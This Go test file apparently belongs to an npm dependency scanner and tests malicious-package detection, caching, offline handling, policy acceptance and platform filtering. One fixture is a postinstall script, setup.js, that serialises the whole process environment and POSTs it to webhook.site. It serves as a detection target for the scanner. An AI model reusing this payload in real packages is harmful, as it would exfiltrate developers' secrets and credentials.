package scan

import (
	"context"
	"encoding/json"

	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/cache"
	"github.com/depfence/depfence/internal/depgraph"
	"github.com/depfence/depfence/internal/npmrc"
	"github.com/depfence/depfence/internal/policy"
	"github.com/depfence/depfence/internal/registry"
	"github.com/depfence/depfence/internal/registry/registrytest"
	"github.com/depfence/depfence/internal/report"
	"github.com/depfence/depfence/internal/rules"
)

// Synthetic, inert package contents written for the test: a harmless
// utility and a package whose install script reads the whole environment
// and posts it to an exfiltration service. Nothing is ever executed.
var (
	benignFiles = map[string]string{
		"index.js": "module.exports = function pad(s, n) { return String(s).padStart(n); };\n",
	}
	evilFiles = map[string]string{
		"setup.js": `const https = require('https');
const data = JSON.stringify(process.env);
const req = https.request({ hostname: 'webhook.site', path: '/0f6c-test', method: 'POST' });
req.write(data);
req.end();
`,
		"index.js": "module.exports = {};\n",
	}
)

type project struct {
	dir   string
	reg   *registrytest.Server
	pubs  map[string]*registrytest.Published
	cache string
}

func newProject(t *testing.T) *project {
	t.Helper()
	reg := registrytest.New(t)
	p := &project{dir: t.TempDir(), reg: reg, pubs: map[string]*registrytest.Published{}, cache: t.TempDir()}
	p.pubs["tiny-util"] = reg.AddPackage("tiny-util", "1.0.0", nil, benignFiles)
	p.pubs["evil-helper"] = reg.AddPackage("evil-helper", "1.0.1", map[string]any{"scripts": map[string]any{"postinstall": "node setup.js"}}, evilFiles)
	lock := map[string]any{
		"name": "demo", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
		"packages": map[string]any{
			"": map[string]any{"name": "demo", "version": "1.0.0",
				"dependencies": map[string]any{"tiny-util": "^1.0.0", "evil-helper": "^1.0.0"}},
		},
	}
	pk := lock["packages"].(map[string]any)
	for name, pub := range p.pubs {
		entry := map[string]any{"version": pub.Version, "resolved": pub.TarballURL, "integrity": pub.Integrity}
		if name == "evil-helper" {
			entry["hasInstallScript"] = true
		}
		pk["node_modules/"+name] = entry
	}
	write := func(name string, v any) {
		b, err := json.MarshalIndent(v, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(p.dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("package-lock.json", lock)
	write("package.json", map[string]any{"name": "demo", "version": "1.0.0",
		"dependencies": map[string]any{"tiny-util": "^1.0.0", "evil-helper": "^1.0.0"}})
	return p
}

func (p *project) options(t *testing.T, offline bool) Options {
	t.Helper()
	cfg, err := npmrc.Load(npmrc.Options{Env: []string{"npm_config_registry=" + p.reg.URL}, DefaultRegistry: p.reg.URL})
	if err != nil {
		t.Fatal(err)
	}
	store, err := cache.Open(p.cache, cache.WithoutSync())
	if err != nil {
		t.Fatal(err)
	}
	client, err := registry.New(cfg, registry.WithOffline(offline), registry.WithRetries(0),
		registry.WithPackumentCache(store.ForRegistry(), time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(client.Close)
	eng, err := analyze.New(rules.Builtin())
	if err != nil {
		t.Fatal(err)
	}
	now := time.Date(2026, 12, 4, 12, 0, 0, 0, time.UTC)
	return Options{Dir: p.dir, Fetcher: &Fetcher{Registry: client, Cache: store, Offline: offline, RegistryID: p.reg.URL},
		Engine: eng, Now: func() time.Time { return now }, ToolVersion: "test"}
}

func pkgByName(t *testing.T, r *report.Result, name string) report.Package {
	t.Helper()
	for _, p := range r.Packages {
		if p.Name == name {
			return p
		}
	}
	t.Fatalf("package %s not in result", name)
	return report.Package{}
}

func TestRunFindsMaliciousAndCaches(t *testing.T) {
	p := newProject(t)
	res, err := Run(context.Background(), p.options(t, false))
	if err != nil {
		t.Fatal(err)
	}
	evil, ok := pkgByName(t, res, "evil-helper"), pkgByName(t, res, "tiny-util")
	if evil.Verdict != "malicious" || evil.Status != report.StatusAnalysed || len(evil.Chain) == 0 {
		t.Errorf("evil-helper: verdict %q status %q chain %v", evil.Verdict, evil.Status, evil.Chain)
	}
	if ok.Verdict != "ok" {
		t.Errorf("tiny-util verdict %q", ok.Verdict)
	}
	if !res.Summary.Failed || res.Summary.Analysed != 2 || res.Summary.Packages != 2 {
		t.Errorf("summary %+v", res.Summary)
	}
	if !strings.Contains(strings.Join(res.Summary.FailReasons, ";"), "malicious") {
		t.Errorf("fail reasons %v", res.Summary.FailReasons)
	}
	var sawExfil bool
	for _, f := range res.Findings {
		if f.Package.Name == "evil-helper" && f.Rule.Category() == "net" {
			sawExfil = true
			if f.LockfileLine == 0 || len(f.Path) == 0 {
				t.Errorf("finding lacks lockfile line or path: %+v", f)
			}
		}
		if f.Package.Name == "tiny-util" {
			t.Errorf("benign package has a finding: %s %s", f.Rule, f.Message)
		}
	}
	if !sawExfil {
		t.Errorf("no network finding; findings: %v", ruleIDs(res))
	}

	// A warm re-run does no download and no analysis.
	p.reg.ResetRequests()
	res2, err := Run(context.Background(), p.options(t, false))
	if err != nil {
		t.Fatal(err)
	}
	for _, pk := range res2.Packages {
		if pk.Status != report.StatusCached {
			t.Errorf("%s: status %q on warm run, want cached", pk.Name, pk.Status)
		}
	}
	if n := len(p.reg.Requests()); n != 0 {
		t.Errorf("warm run made %d registry requests", n)
	}
	if len(res2.Findings) != len(res.Findings) {
		t.Errorf("warm run: %d findings, cold: %d", len(res2.Findings), len(res.Findings))
	}

	// Offline with the warm cache still works.
	res3, err := Run(context.Background(), p.options(t, true))
	if err != nil || res3.Summary.NotAnalysed != 0 {
		t.Fatalf("offline warm: %v, %+v", err, res3.Summary)
	}
}

func ruleIDs(r *report.Result) []string {
	var out []string
	for _, f := range r.Findings {
		out = append(out, fmt.Sprintf("%s:%s", f.Package.Name, f.Rule))
	}
	return out
}

func TestOfflineMissIsNamedNotClean(t *testing.T) {
	p := newProject(t)
	res, err := Run(context.Background(), p.options(t, true))
	if err != nil {
		t.Fatal(err)
	}
	if res.Summary.NotAnalysed != 2 || res.Summary.Analysed != 0 {
		t.Fatalf("summary %+v", res.Summary)
	}
	for _, pk := range res.Packages {
		if pk.Status != report.StatusNotAnalysed || pk.Verdict != "" || !strings.Contains(pk.StatusReason, "offline") {
			t.Errorf("%s: status %q verdict %q reason %q", pk.Name, pk.Status, pk.Verdict, pk.StatusReason)
		}
	}
	if len(res.Errors) != 2 {
		t.Errorf("errors %v", res.Errors)
	}
	if n := len(p.reg.Requests()); n != 0 {
		t.Errorf("offline run made %d requests", n)
	}
}

func TestOneBadPackageDoesNotStopOthers(t *testing.T) {
	p := newProject(t)
	p.reg.Fault(registrytest.TarballPath("tiny-util", "1.0.0"), registrytest.WrongIntegrity())
	o := p.options(t, false)
	o.Policy = &policy.Policy{FailOn: 99, FailOnIncomplete: true}
	res, err := Run(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	tiny := pkgByName(t, res, "tiny-util")
	if tiny.Status != report.StatusNotAnalysed || !strings.Contains(tiny.StatusReason, "integrity") {
		t.Errorf("tiny-util: %q %q", tiny.Status, tiny.StatusReason)
	}
	if evil := pkgByName(t, res, "evil-helper"); evil.Status != report.StatusAnalysed {
		t.Errorf("evil-helper not analysed: %q", evil.StatusReason)
	}
	if !strings.Contains(strings.Join(res.Summary.FailReasons, ";"), "not analysed") {
		t.Errorf("failOnIncomplete ignored: %v", res.Summary.FailReasons)
	}
}

func TestAcceptedFindingsAreShownNotFailing(t *testing.T) {
	p := newProject(t)
	o := p.options(t, false)
	pol, err := policy.Parse("depfence.yaml", []byte(`
failOn: low
accept:
  - package: evil-helper@1.0.1
    rule: "*"
    reason: test fixture
  - package: nothing-here
    rule: "*"
    reason: stale
`))
	if err != nil {
		t.Fatal(err)
	}
	o.Policy = pol
	res, err := Run(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	if res.Summary.Failed {
		t.Errorf("failed despite acceptance: %v", res.Summary.FailReasons)
	}
	n := 0
	for _, f := range res.Findings {
		if f.Package.Name == "evil-helper" {
			n++
			if f.Decision != report.DecisionAccepted || f.Acceptance == nil || f.Acceptance.Reason != "test fixture" {
				t.Errorf("finding %s decision %q", f.Rule, f.Decision)
			}
		}
	}
	if n == 0 || res.Summary.Accepted != n {
		t.Errorf("accepted findings %d, summary %d", n, res.Summary.Accepted)
	}
	if len(res.Policy.Stale) != 1 || res.Policy.Stale[0].Package != "nothing-here" {
		t.Errorf("stale %+v", res.Policy.Stale)
	}
}

// TestWarmRescanWithoutLockfileIntegrity covers lockfiles that record no
// integrity (yarn berry): the digest verified at the first fetch keys the
// cached analysis, so the second scan downloads and analyses nothing.
func TestWarmRescanWithoutLockfileIntegrity(t *testing.T) {
	p := newProject(t)
	path := filepath.Join(p.dir, "package-lock.json")
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var lock map[string]any
	if err := json.Unmarshal(b, &lock); err != nil {
		t.Fatal(err)
	}
	for k, v := range lock["packages"].(map[string]any) {
		if k != "" {
			delete(v.(map[string]any), "integrity")
		}
	}
	b, _ = json.Marshal(lock)
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Run(context.Background(), p.options(t, false)); err != nil {
		t.Fatal(err)
	}
	p.reg.ResetRequests()
	res, err := Run(context.Background(), p.options(t, false))
	if err != nil {
		t.Fatal(err)
	}
	for _, pk := range res.Packages {
		if pk.Status != report.StatusCached {
			t.Errorf("%s: %s on the warm run, want cached", pk.Name, pk.Status)
		}
	}
	for _, r := range p.reg.Requests() {
		if strings.HasSuffix(r.Path, ".tgz") {
			t.Errorf("warm run downloaded %s", r.Path)
		}
	}
}

// A platform scan fetches what npm would install there: the glibc build of
// a native package, not the musl one next to it in the lockfile.
func TestPlatformSkipsOtherCLibrary(t *testing.T) {
	p := newProject(t)
	lockPath := filepath.Join(p.dir, "package-lock.json")
	var lock map[string]any
	b, err := os.ReadFile(lockPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, &lock); err != nil {
		t.Fatal(err)
	}
	pk := lock["packages"].(map[string]any)
	deps := pk[""].(map[string]any)["dependencies"].(map[string]any)
	for _, libc := range []string{"gnu", "musl"} {
		name := "native-linux-x64-" + libc
		pub := p.reg.AddPackage(name, "1.0.0", nil, benignFiles)
		family := map[string]string{"gnu": "glibc", "musl": "musl"}[libc]
		pk["node_modules/"+name] = map[string]any{"version": "1.0.0", "resolved": pub.TarballURL, "integrity": pub.Integrity,
			"optional": true, "os": []string{"linux"}, "cpu": []string{"x64"}, "libc": []string{family}}
		deps[name] = "1.0.0"
	}
	if b, err = json.Marshal(lock); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(lockPath, b, 0o644); err != nil {
		t.Fatal(err)
	}
	names := func(r *report.Result) string {
		var out []string
		for _, p := range r.Packages {
			if strings.HasPrefix(p.Name, "native-") {
				out = append(out, p.Name)
			}
		}
		return strings.Join(out, " ")
	}
	for _, tt := range []struct {
		plat depgraph.Platform
		want string
	}{
		{depgraph.Platform{}, "native-linux-x64-gnu native-linux-x64-musl"},
		{depgraph.Platform{OS: "linux", CPU: "x64"}, "native-linux-x64-gnu native-linux-x64-musl"},
		{depgraph.Platform{OS: "linux", CPU: "x64", Libc: "glibc"}, "native-linux-x64-gnu"},
		{depgraph.Platform{OS: "linux", CPU: "x64", Libc: "musl"}, "native-linux-x64-musl"},
		{depgraph.Platform{OS: "darwin", CPU: "arm64"}, ""},
	} {
		o := p.options(t, false)
		o.Platform = tt.plat
		o.Policy = &policy.Policy{FailOn: 99}
		res, err := Run(context.Background(), o)
		if err != nil {
			t.Fatal(err)
		}
		if got := names(res); got != tt.want {
			t.Errorf("platform %+v scanned %q, want %q", tt.plat, got, tt.want)
		}
	}
}
